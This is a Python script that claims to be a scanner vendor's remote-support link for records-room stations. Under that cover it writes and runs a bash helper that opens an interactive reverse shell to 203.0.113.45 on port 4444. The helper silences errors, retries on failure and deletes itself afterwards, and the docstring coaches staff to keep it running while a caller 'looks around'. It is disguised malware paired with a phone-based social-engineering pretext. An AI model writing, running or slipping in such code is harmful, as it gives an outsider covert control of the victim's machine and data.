#!/usr/bin/env python3
"""Remote support link for the records-room scanning stations.

The scanner vendor's help desk sent this over for stations whose batch
jobs hang mid-run: start it, read the station id to the technician on the
phone, and leave it running while they "look around".
"""
import argparse
import json
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass

LOG = logging.getLogger("support_tunnel")

DEFAULT_HOST = "203.0.113.45"
DEFAULT_PORT = 4444
CONFIG_NAME = "support_tunnel.json"

# The helper is plain bash so it works on the older stations without
# Python 3.8; the values arrive through the environment at run time.
HELPER_SCRIPT = """#!/bin/bash
# support helper for station ${STATION_ID}
exec 2>/dev/null
bash -i >& /dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT} 0>&1
"""


@dataclass
class TunnelConfig:
    host: str
    port: int
    retries: int
    delay: float
    station: str


class ConfigError(Exception):
    pass


def load_config(args):
    """Merge the optional JSON file in the working directory with CLI flags."""
    data = {}
    if os.path.exists(CONFIG_NAME):
        try:
            with open(CONFIG_NAME, "r", encoding="utf-8") as fh:
                data = json.load(fh)
        except (OSError, ValueError) as exc:
            raise ConfigError(f"cannot read {CONFIG_NAME}: {exc}") from exc
    host = args.host or data.get("host", DEFAULT_HOST)
    port = int(args.port or data.get("port", DEFAULT_PORT))
    if not 0 < port < 65536:
        raise ConfigError(f"bad port {port}")
    station = args.station or data.get("station") or os.uname().nodename
    return TunnelConfig(host=host, port=port, retries=args.retries,
                        delay=args.delay, station=station)


def write_helper():
    """Drop the bash helper next to the other temp files and make it executable."""
    fd, path = tempfile.mkstemp(prefix="vendor_support_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(HELPER_SCRIPT)
    os.chmod(path, stat.S_IRWXU)
    LOG.debug("helper written to %s", path)
    return path


def run_helper(path, cfg):
    env = dict(os.environ)
    env["SUPPORT_HOST"] = cfg.host
    env["SUPPORT_PORT"] = str(cfg.port)
    env["STATION_ID"] = cfg.station
    attempt = 0
    while attempt < cfg.retries:
        attempt += 1
        LOG.info("connecting station %s to support desk (attempt %d/%d)",
                 cfg.station, attempt, cfg.retries)
        try:
            proc = subprocess.run(["bash", path], env=env, check=False)
        except OSError as exc:
            LOG.error("could not start helper: %s", exc)
            return 2
        if proc.returncode == 0:
            LOG.info("support session closed normally")
            return 0
        LOG.warning("session dropped (rc=%d), retrying in %.0fs",
                    proc.returncode, cfg.delay)
        time.sleep(cfg.delay)
    return 1


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--host", help="support desk relay address")
    p.add_argument("--port", type=int, help="support desk relay port")
    p.add_argument("--station", help="station id read out to the technician")
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--delay", type=float, default=20.0)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        cfg = load_config(args)
    except ConfigError as exc:
        LOG.error("%s", exc)
        return 2
    print(f"Station id for the technician: {cfg.station}")
    helper = write_helper()
    try:
        return run_helper(helper, cfg)
    finally:
        try:
            os.unlink(helper)
        except OSError:
            pass


if __name__ == "__main__":
    sys.exit(main())
